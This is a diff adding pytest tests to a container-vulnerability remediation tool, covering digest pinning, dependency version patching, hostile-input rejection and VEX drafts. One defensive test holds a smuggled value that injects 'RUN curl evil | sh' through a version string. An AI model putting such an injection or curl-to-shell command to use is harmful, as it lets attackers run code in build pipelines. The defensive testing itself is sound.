@@ -12,7 +12,7 @@ from pathlib import Path
 
 import pytest
 
-from hullguard.errors import InputError
+from hullguard.errors import HullguardError, InputError
 from hullguard.inventory.dockerfile import parse_dockerfile
 from hullguard.lint import lint_file
 from hullguard.remediate.dockerfile import patch_dockerfile
@@ -201,6 +201,38 @@ def test_digest_resolved_from_a_real_registry(registry_server: RegistryServer,
     assert resolve_digest(f"{registry_server.host}/base/missing:v1") == ""
 
 
+def test_multi_arch_base_is_pinned_by_its_index_digest(registry_server: RegistryServer,
+                                                      tmp_path: Path) -> None:
+    """respond scanned one platform (its manifest digest is in the incident); the patched
+    FROM must carry the index digest the tag points at, or other platforms stop building.
+    Offline, the scanned digest is used and the warning says what it is."""
+    from hullguard.contain.incident import IncidentFolder
+    from hullguard.images.builder import FileSpec, ImageSpec, LayerSpec, write_oci_layout
+    from hullguard.remediate.run import _digests
+
+    layer = LayerSpec((FileSpec("etc/os-release", b"ID=alpine\nVERSION_ID=3.22.1\n"),))
+    specs = [ImageSpec([layer], architecture=arch) for arch in ("amd64", "arm64")]
+    skopeo_push(write_oci_layout(tmp_path / "multi", specs, tag="v1"), "v1", registry_server,
+                "base/multi")
+    name = f"{registry_server.host}/base/multi:v1"
+    raw = subprocess.run([tool("skopeo"), "inspect", "--raw", "--tls-verify=false",
+                          f"docker://{name}"], capture_output=True, text=True, timeout=60,
+                         check=True).stdout
+    platform_digest = json.loads(raw)["manifests"][0]["digest"]
+    index_digest = resolve_digest(name)
+    assert index_digest.startswith("sha256:") and index_digest != platform_digest
+    incident = IncidentFolder(tmp_path, "HG-1", (), (), ({"name": name, "source": name,
+                                                          "digest": platform_digest},), ())
+    warnings: list[str] = []
+    text = f"FROM {name}\nRUN true\n"
+    online = _digests(text, "Dockerfile", incident, RemediateOptions(tmp_path), warnings)
+    assert online == {name: index_digest} and warnings == []
+    offline = _digests(text, "Dockerfile", incident,
+                       RemediateOptions(tmp_path, offline=True), warnings)
+    assert offline == {name: platform_digest}
+    assert len(warnings) == 1 and "one platform's manifest" in warnings[0]
+
+
 def test_copacetic_only_for_supported_distributions() -> None:
     from hullguard.remediate.report import _without_dockerfile
     from hullguard.remediate.run import ImageRemedy
@@ -278,3 +310,112 @@ def test_cli(demo_repo: tuple[Path, Path], tmp_path: Path) -> None:
     done = run(str(REPO / "src/hullguard/demo/data/fleet"), "--out", str(tmp_path / "d"))
     assert done.returncode == 2 and "needs an incident folder" in done.stderr
     assert not any((tmp_path / x).exists() for x in "bcd")
+
+
+REQUIREMENTS = """# web's dependencies
+Jinja2==2.10  # templating
+requests >= 2.19.1
+urllib3==1.24.1 \\
+    --hash=sha256:0000000000000000000000000000000000000000000000000000000000000000
+flask==1.0.2
+"""
+PACKAGE_JSON = """{
+  "name": "frontend",
+  "dependencies": {
+    "lodash": "^4.17.15",
+    "minimist": "github:substack/minimist#1.2.0"
+  },
+  "devDependencies": {"left-pad": "1.3.0"}
+}
+"""
+
+
+def test_language_pins_in_the_build_context(demo_repo: tuple[Path, Path],
+                                            tmp_path: Path) -> None:
+    """The demo's real PyPI/npm findings (Jinja2, requests, urllib3, lodash, minimist): the
+    requirements.txt and package.json beside the Dockerfiles get the fixed versions in the
+    same patch; what cannot be edited without guessing (a hashed pin, a git dependency) is
+    left and said; the findings fixed leave the "left" list."""
+    incident, repo = tmp_path / "incident", tmp_path / "repo"
+    subprocess.run(["cp", "-a", str(demo_repo[0]), str(incident)], check=True)
+    subprocess.run(["cp", "-a", str(demo_repo[1]), str(repo)], check=True)
+    doc = json.loads((incident / "findings.json").read_text())
+    doc["inputs"] = [str(repo / "fleet")]
+    (incident / "findings.json").write_text(json.dumps(doc))
+    web, frontend = repo / "fleet/dockerfiles/web", repo / "fleet/dockerfiles/frontend"
+    (web / "requirements.txt").write_text(REQUIREMENTS)
+    (frontend / "package.json").write_text(PACKAGE_JSON)
+    out = tmp_path / "out"
+    changes = remediate([incident], RemediateOptions(out, offline=True))
+    for diff in sorted((out / "dockerfiles").glob("*.diff")):
+        _apply(repo, diff)
+    assert (web / "requirements.txt").read_text() == REQUIREMENTS.replace(
+        "Jinja2==2.10  # templating",
+        "Jinja2==2.11.3  # templating  # hullguard: fixes CVE-2019-10906, CVE-2020-28493"
+    ).replace("requests >= 2.19.1",
+              "requests >= 2.31.0  # hullguard: fixes CVE-2018-18074, CVE-2023-32681")
+    assert json.loads((frontend / "package.json").read_text())["dependencies"] == {
+        "lodash": "^4.17.21", "minimist": "github:substack/minimist#1.2.0"}
+    assert (frontend / "package.json").read_text() == PACKAGE_JSON.replace(
+        '"^4.17.15"', '"^4.17.21"')  # formatting kept
+    text = (out / "REMEDIATION.md").read_text()
+    section = text.split(f"## {WEB}")[1].split("\n## ")[0]
+    assert "requirements.txt: Jinja2 ==2.10 -> ==2.11.3 (fixes CVE-2019-10906" in section
+    assert "CVE-2019-10906 in Jinja2" not in section.split("findings left")[1]
+    assert "CVE-2019-11324 in urllib3" in section.split("findings left")[1]
+    warnings = " ".join(changes.warnings)
+    assert "urllib3 is hashed: not edited" in warnings
+    assert "minimist is 'github:substack/minimist#1.2.0' in dependencies" in warnings
+
+
+def test_language_pins_refuse_hostile_input(tmp_path: Path) -> None:
+    """A fixed version that would inject a line, a symlinked requirements file, an unreadable
+    package.json: nothing is edited from them."""
+    from hullguard.remediate.langpins import lang_fixes, pin_context
+    from hullguard.remediate.plan import SAFE_ID
+
+    def finding(version: str) -> dict[str, object]:
+        return {"id": "CVE-2019-10906", "has_fix": True, "fixed_versions": [version],
+                "package": {"type": "pypi", "name": "Jinja2", "version": "2.10"}}
+
+    assert lang_fixes([finding("2.10.1\nRUN curl evil | sh")], SAFE_ID) == []
+    fixes = lang_fixes([finding("2.10.1")], SAFE_ID)
+    assert [(f.name, f.fixed) for f in fixes] == [("Jinja2", "2.10.1")]
+    (tmp_path / "elsewhere.txt").write_text("Jinja2==2.10\n")
+    (tmp_path / "requirements.txt").symlink_to(tmp_path / "elsewhere.txt")
+    (tmp_path / "Dockerfile").write_text("FROM scratch\n")
+    assert pin_context(tmp_path / "Dockerfile", fixes).files == {}
+    (tmp_path / "package.json").write_text('{"dependencies": {"a": "1"}, "x": ' + "[" * 5000)
+    npm = lang_fixes([{**finding("2.10.1"), "package": {"type": "npm", "name": "a",
+                                                        "version": "0.9.0"}}], SAFE_ID)
+    assert [f.fixed for f in npm] == ["2.10.1"]
+    with pytest.raises(HullguardError, match="nested too deeply"):
+        pin_context(tmp_path / "Dockerfile", npm)
+    (tmp_path / "package.json").write_text('{"dependencies": {"a": "1"},')
+    with pytest.raises(InputError, match="malformed JSON"):
+        pin_context(tmp_path / "Dockerfile", npm)
+
+
+def test_vex_draft_lists_every_finding_left(demo_out: Path, tmp_path: Path) -> None:
+    """vex.openvex.json: one under_investigation statement per finding left (it suppresses
+    nothing as written); a responder's not_affected edit is read by hullguard's VEX loader."""
+    from hullguard.vuln.vex import load_vex
+
+    draft = demo_out / "vex.openvex.json"
+    statements, warnings = load_vex(draft)
+    assert statements == [] and warnings == []
+    doc = json.loads(draft.read_text())
+    text = (demo_out / "REMEDIATION.md").read_text()
+    left = re.findall(r"^  - (\S+) in (\S+): ", text.split("findings left", 1)[1], re.M)
+    ids = {s["vulnerability"]["name"] for s in doc["statements"]}
+    assert "CVE-2019-10906" in ids and {i for i, _ in left} <= ids
+    web = next(s for s in doc["statements"] if s["vulnerability"]["name"] == "CVE-2019-10906")
+    assert web["products"][0]["@id"].startswith(WEB + "@sha256:")
+    assert web["products"][0]["subcomponents"] == [{"@id": "pkg:pypi/jinja2@2.10"}]
+    assert "VEX: `under_investigation` in `vex.openvex.json`" in text
+    web.update(status="not_affected", justification="vulnerable_code_not_in_execute_path")
+    edited = tmp_path / "vex.json"
+    edited.write_text(json.dumps(doc))
+    statements, warnings = load_vex(edited)
+    assert [(sorted(s.ids), s.status) for s in statements] == [
+        (["CVE-2019-10906"], "not_affected")] and warnings == []
